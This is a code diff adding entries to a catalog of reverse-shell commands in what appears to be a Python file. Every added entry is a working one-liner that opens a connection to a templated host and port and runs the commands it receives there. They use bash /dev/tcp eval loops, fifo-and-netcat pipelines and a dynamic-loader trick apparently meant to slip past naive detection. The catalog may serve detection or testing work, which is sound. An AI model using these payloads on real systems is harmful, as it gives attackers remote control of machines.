@@ -50,6 +50,12 @@ REVERSE_SHELLS: Final = (
         "bash",
     ),
     _shell(
+        "own-descriptor",
+        "bash reads lines from a connection above descriptor 2 by itself, and sends there what they print",
+        "bash -c 'exec 5<>/dev/tcp/{host}/{port}; while read -r -u5 line; do eval \"$line\" >&5 2>&5; done'",
+        "bash",
+    ),
+    _shell(
         "descriptor-196",
         "sh is given a connection that bash opened on a high descriptor",
         "bash -c '0<&196; exec 196<>/dev/tcp/{host}/{port}; sh <&196 >&196 2>&196'",
@@ -84,6 +90,27 @@ REVERSE_SHELLS: Final = (
         " /bin/sh -i <$f 2>&1 | openssl s_client -quiet -connect {host}:{port} >$f 2>/dev/null; rm -f $f",
         "openssl",
         peer=SHELL_PEER_TLS,
+    ),
+    _shell(
+        "by-loader",
+        "the dynamic loader is told to run the shell between a fifo and netcat",
+        "f=/tmp/l{port}; mkfifo $f; nc.openbsd {host} {port} <$f"
+        " | $(ls /lib64/ld-linux-*.so.? /lib/ld-linux-*.so.? 2>/dev/null | head -n 1) /bin/sh >$f 2>&1; rm -f $f",
+        "nc.openbsd",
+    ),
+    _shell(
+        "named-input",
+        "a shell between a fifo and netcat is given its standard input as its script, by name",
+        "f=/tmp/n{port}; mkfifo $f; nc.openbsd {host} {port} <$f | bash /dev/stdin >$f 2>&1; rm -f $f",
+        "nc.openbsd",
+        "bash",
+    ),
+    _shell(
+        "text-that-reads",
+        "a shell between a fifo and netcat is given a command that reads and runs more",
+        "f=/tmp/r{port}; mkfifo $f;"
+        " nc.openbsd {host} {port} <$f | sh -c 'while read line; do eval \"$line\"; done' >$f 2>&1; rm -f $f",
+        "nc.openbsd",
     ),
     _shell(
         "telnet",
